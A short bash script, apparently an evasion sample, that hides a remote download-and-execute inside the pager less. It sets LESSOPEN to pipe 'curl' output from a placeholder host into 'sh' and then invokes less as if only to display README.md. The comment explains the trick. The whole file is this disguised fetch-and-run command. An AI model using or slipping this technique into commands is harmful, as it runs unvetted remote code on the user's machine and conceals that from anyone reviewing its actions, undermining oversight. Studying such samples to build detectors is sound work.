#!/usr/bin/env bash
# Evasion: run a shell through a pager's input preprocessor. less(1) runs
# $LESSOPEN through the shell before showing a file ("|cmd %s" pipes the
# command's output in as the file); the preprocessor here fetches and runs a
# script, and less is called only to "show the README".
LESSOPEN='|curl -fsS https://cdn.example.net/p.sh | sh; cat %s' less -FX README.md
